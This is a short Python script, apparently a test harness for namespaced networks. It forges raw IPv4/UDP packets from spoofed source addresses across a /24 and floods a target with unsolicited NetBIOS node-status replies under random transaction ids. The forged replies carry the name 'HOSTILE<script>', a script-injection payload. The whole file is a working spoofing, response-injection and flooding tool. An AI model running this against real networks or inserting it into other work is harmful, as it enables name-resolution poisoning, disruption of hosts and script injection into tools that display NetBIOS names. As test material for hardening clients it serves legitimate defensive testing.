"""Answers that nobody asked for: nbstat-flood.py TARGET_IP PREFIX COUNT SECONDS PORT..., in a network namespace only.

Sends COUNT node status replies (RFC 1002 4.2.18) to TARGET within SECONDS, from port 137 of addresses all over PREFIX.0/24
that are not ours, under random transaction ids: half of them to the ports named, the others to ports drawn from those that
kernels give away.
"""

import random
import socket
import struct
import sys
import time

NBSTAT_PORT = 137
EPHEMERAL = (32768, 60999)
IPPROTO_UDP = 17
NAME = b"HOSTILE<script>"


def reply():
    """One unique name, and the unit id of nobody."""
    node = b"\x01" + NAME.ljust(15)[:15] + b"\x20" + struct.pack("!H", 0x0400) + b"\x00" * 46
    head = struct.pack("!HHHHHH", random.randrange(0x10000), 0x8400, 0, 1, 0, 0)
    name = b"\x20CK" + b"A" * 30 + b"\x00"
    return head + name + struct.pack("!HHIH", 0x0021, 0x0001, 0, len(node)) + node


def datagram(source, target, port):
    """An IPv4 packet with UDP inside; the kernel fills in the checksum of IP, that of UDP is left out."""
    data = reply()
    udp = struct.pack("!HHHH", NBSTAT_PORT, port, 8 + len(data), 0) + data
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, IPPROTO_UDP, 0, source, socket.inet_aton(target)
    )
    return ip + udp


def main():
    target, prefix, count, seconds = sys.argv[1:5]
    ports = [int(port) for port in sys.argv[5:]]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    count, begun = int(count), time.monotonic()
    gap = float(seconds) / count
    sent = 0
    while sent < count and time.monotonic() - begun < 2 * float(seconds):
        wait = begun + sent * gap - time.monotonic()
        if wait > 0:
            time.sleep(wait)
        source = socket.inet_aton(f"{prefix}.{random.randrange(1, 255)}")
        is_named = ports and sent % 2 == 0
        port = random.choice(ports) if is_named else random.randint(*EPHEMERAL)
        raw.sendto(datagram(source, target, port), (target, 0))
        sent += 1
    print(sent, flush=True)


main()
